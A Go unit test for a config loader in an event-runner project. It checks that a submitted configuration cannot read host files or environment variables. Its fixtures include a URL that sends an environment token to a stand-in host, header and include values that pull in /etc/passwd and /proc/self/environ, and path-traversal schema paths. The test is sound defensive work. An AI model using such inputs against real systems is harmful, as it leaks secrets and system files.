package config

import (
	"errors"
	"strings"
	"testing"

	"evrun/events"
	"evrun/tasks/explain"
)

// TestGivenFilesReadNothingElse: a wiring that somebody sent is read from what they sent alone. What it names of this machine (variables, files, groups, users,
// programs, certificates) is neither read nor looked for.
func TestGivenFilesReadNothingElse(t *testing.T) {
	t.Setenv("WINDOW_TOKEN", "hunter2-hunter2")
	given := func(main string, more ...string) Options {
		files := map[string][]byte{"/srv/evrun.yaml": []byte(main)}
		for i := 0; i < len(more); i += 2 {
			files[more[i]] = []byte(more[i+1])
		}
		return Options{Given: files}
	}
	cfg, err := Load("/srv/evrun.yaml", given(`
server: {socket_group: nobody-has-this-group, listen: "127.0.0.1:0"}
include: [conf.d/*.yaml]
pass_env: [WINDOW_TOKEN]
handlers:
  - {name: tell, on: a.b, do: http, timeout: 1s, with: {url: "http://x.example/${ env('WINDOW_TOKEN') }", ca: /etc/ssl/nothing.pem, headers: {X: "${ file('/etc/passwd') }"}}}
  - {name: run, on: a.b, do: exec, timeout: 1s, with: {command: [/no/such/program], user: "nobody-has-this-name", dir: /no/such/dir}}
`, "/srv/conf.d/a.yaml", `
events: {a.b: {schema_file: a.json}}
`, "/srv/conf.d/a.json", `{"type":"object"}`, "/srv/conf.d/b.yaml~", "not: yaml: at all"))
	if err != nil {
		t.Fatal(err)
	}
	if len(cfg.Warnings) > 0 {
		t.Errorf("it looked at the machine: %v", cfg.Warnings)
	}
	e := &events.Event{ID: "1", Source: "/x", Type: "a.b", Data: []byte(`{}`)}
	report := explain.Event(cfg.Wiring.Handlers, e, "s", cfg.Secrets)
	text, _ := events.MarshalJSON(report)
	for _, leak := range []string{"hunter2", "root:"} {
		if strings.Contains(string(text), leak) {
			t.Errorf("the machine's %q is in %s", leak, text)
		}
	}
	if report.Handlers[0].Would != "run" {
		t.Errorf("the placeholders are no values: %s", text)
	}
	for _, wrong := range []string{
		"include: /etc/passwd\nhandlers: []",
		"include: /proc/self/environ\nhandlers: []",
		"events: {a.b: {schema_file: /etc/hostname}}\nhandlers: []",
		"include: ../srv2/*.yaml\nevents: {a.b: {schema_file: ../../etc/hostname}}",
	} {
		_, err := Load("/srv/evrun.yaml", given(wrong))
		var faults *Errors
		if !errors.As(err, &faults) || !strings.Contains(err.Error(), "is not among the files that were sent") {
			t.Errorf("%s: %v", wrong, err)
		}
	}
	if _, err = Load("/srv/evrun.yaml", given("include: a.yaml", "/srv/a.yaml", "include: evrun.yaml")); err == nil || !strings.Contains(err.Error(), "would include itself") {
		t.Errorf("a cycle: %v", err)
	}
}
